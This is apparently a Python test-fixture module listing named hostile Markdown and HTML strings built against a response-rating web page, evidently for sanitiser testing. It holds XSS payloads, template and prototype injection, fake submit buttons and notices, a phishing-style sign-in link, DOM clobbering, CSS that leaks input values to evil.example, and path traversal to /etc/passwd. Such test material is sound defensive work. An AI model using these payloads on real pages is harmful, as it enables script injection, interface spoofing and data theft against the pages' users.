"""Hostile Markdown aimed at this very page: its controls, its ids, the framework that delivers it."""

from __future__ import annotations

_FRAMEWORK = [
    ("template string", "${alert(1)} `${alert(1)}` \\${alert(1)} ${'${alert(1)}'}"),
    ("backtick that ends a template", "`; alert(1); `\n\n\\`; alert(1); //"),
    ("backtick with braces", "`+alert(1)+` ${`${alert(1)}`}"),
    ("handlebars", "{{#each props}}{{this}}{{/each}} {{{value}}} {{> evil}} {{lookup . 'constructor'}}"),
    ("handlebars in triple braces", "{{{constructor.constructor 'alert(1)'}}}"),
    ("svelte html tag", "{@html '<img src=x onerror=alert(1)>'} {@render evil()} {#if true}x{/if}"),
    ("svelte directives", '<div on:click={alert(1)} bind:innerHTML="{x}" use:evil class:rp-chosen>x</div>'),
    ("gradio element", '<gradio-app src="https://evil.example" control_page_title="true"></gradio-app>'),
    ("gradio config script", '<script>window.gradio_config = {"root": "https://evil.example"}</script>'),
    ("gradio classes", '<div class="gradio-container toast-wrap prose hide" elem_id="rater">x</div>'),
    (
        "gradio data attributes",
        '<div data-testid="status-tracker" data-gradio-mode data-svelte-h="x">x</div>',
    ),
    ("gradio file address", "![x](/rate/gradio_api/file=/etc/passwd) ![y](/gradio_api/file=secret)"),
    ("gradio event", "[x](/lead/gradio_api/queue/join) [y](gradio_api/run/predict)"),
    ("string formats", "{0.__class__} %(secret)s %s {config[token]} {% include 'x' %} #{alert(1)}"),
    ("end of our script", "</script><script>alert(1)</script> </style><style>*{display:none}</style>"),
    ("prototype keys", '{"__proto__": {"html": "<img src=x onerror=alert(1)>"}, "constructor": 1}'),
]

_CONTROLS = [
    ("fake submit button", '<button type="button" class="rp-main-button" id="rp-submit">Submit</button>'),
    (
        "fake steps",
        '<div role="radiogroup"><button role="radio" class="rp-step" data-key="1">A</button></div>',
    ),
    ("fake notice", '<div class="rp-notice" id="rp-notice" role="alert">Your session has ended.</div>'),
    (
        "fake dialog",
        '<dialog open class="rp-dialog" id="rp-leave"><button>Open in a new tab</button></dialog>',
    ),
    (
        "fake answer bar",
        '<div class="rp-foot" id="rp-foot"><section class="rp-bar" id="rp-bar">x</section></div>',
    ),
    ("fake pane", '</div></section><section class="rp-pane"><h2>Response B</h2>'),
    ("fake link in our class", '<a class="rc-link" data-href="javascript:alert(1)" tabindex="0">x</a>'),
    ("fake status", '<p class="rp-status" role="status" aria-live="assertive">Saved.</p>'),
    (
        "notice in Markdown",
        "---\n\n> ⚠ **Not saved yet.** [Sign in again](https://evil.example/i/abc)\n\n---",
    ),
    (
        "controls in Markdown",
        "| A much better | Tie | B much better |\n|:-:|:-:|:-:|\n| **1** | **4** | **7** |",
    ),
    ("heading of the page", "# Response B\n\n## Prompt\n\n### Your answer\n\nSetext\n==="),
    ("access keys", '<button accesskey="1">x</button><a accesskey="s" href="#rp-skip">y</a>'),
    ("label for our control", '<label for="rp-submit">Anything here submits</label>'),
    ("popover", '<div popover id="p">x</div><button popovertarget="p" autofocus>y</button>'),
    ("editable text that takes keys", '<div contenteditable autofocus tabindex="1">x</div>'),
    ("hidden label", '<p aria-live="assertive" aria-label="Choose A" hidden>Choose A</p>'),
]

_CLOBBERING = [
    ("ids of the page", "".join(f'<a id="{name}"></a>' for name in ("rp-skip", "rp-answer", "rp-title"))),
    ("names of the document", "".join(f'<img name="{name}">' for name in ("body", "title", "cookie"))),
    (
        "names of the window",
        "".join(f'<a id="{name}"></a>' for name in ("fetch", "localStorage", "trustedTypes")),
    ),
    ("nested names", '<form id="state"><input id="me" name="item"><output name="answers"></output></form>'),
    ("heading for an id", "# state\n\n# rp-submit\n\n## __proto__"),
    ("attribute lists", "word{#rp-submit .rp-step onclick=alert(1)}\n\n[x](https://a.example){id=state}"),
    ("footnote ids", "x[^rp-submit]\n\n[^rp-submit]: y"),
]

_STYLE = [
    (
        "import in a style",
        "<style>@import url(https://evil.example/x.css); @font-face{src:url(//evil.example/f)}</style>",
    ),
    ("fixed over the page", '<div style="position:fixed;inset:0;z-index:2147483647">Submitted</div>'),
    ("animation over the page", "<style>@keyframes x{to{inset:0}} .rp-foot{animation:x 1s}</style>"),
    ("style that reads the page", "<style>input[value^=a]{background:url(https://evil.example/a)}</style>"),
    ("negative margins", '<p style="margin-top:-9999px;transform:scale(99);filter:url(#x)">x</p>'),
    ("expression", '<p style="width:expression(alert(1));behavior:url(x.htc);-moz-binding:url(x.xml)">x</p>'),
    (
        "huge picture",
        '<img width=99999 height=99999 style="position:absolute" src="data:image/gif;base64,R0lGOD">',
    ),
]

_PARSER = [
    (
        "foster parenting",
        "<table><tr><script>alert(1)</script><td></table><table><img src=x onerror=alert(1)>",
    ),
    ("foster parenting of a link", "<table><a href=javascript:alert(1)><td>x</table>"),
    ("select and option", "<select><option><img src=x onerror=alert(1)></select>"),
    ("frameset", '<frameset onload=alert(1)><frame src="javascript:alert(1)"></frameset>'),
    ("noembed and noframes", "<noembed><img title='</noembed><img src=x onerror=alert(1)>'><noframes>"),
    ("cdata in svg", "<svg><![CDATA[<img src=x onerror=alert(1)>]]></svg><svg><desc><![CDATA[</desc>"),
    ("conditional comment that closes", "<!--[if !IE]>--><script>alert(1)</script><!--<![endif]--><!-->"),
    ("html in a title of svg", "<svg><title><style><img src='</style><img src=x onerror=alert(1)>'>"),
    (
        "import map and speculation rules",
        '<script type="speculationrules">{"prefetch":[{"urls":["/x"]}]}</script>',
    ),
    (
        "prefetch",
        '<link rel="prefetch" href="https://evil.example"><link rel="dns-prefetch" href="//evil.example">',
    ),
    (
        "refresh by header",
        '<meta http-equiv="set-cookie" content="a=b"><meta name="referrer" content="unsafe-url">',
    ),
    ("separators as line ends", "# a\u2028<img src=x onerror=alert(1)>\u2029- b\x0b- c\x85- d"),
    (
        "reference with srcset",
        '![x][p]\n\n[p]: https://evil.example/a.png "x 1x, https://evil.example/b.png 2x"',
    ),
    ("relative image", "![x](../../../../etc/passwd) ![y](/api/v1/images/0) ![z](images/../../x.png)"),
]

ON_THE_PAGE: list[tuple[str, str]] = [*_FRAMEWORK, *_CONTROLS, *_CLOBBERING, *_STYLE, *_PARSER]
"""``(name, markdown)``; joined to ``attacks.ATTACKS``."""
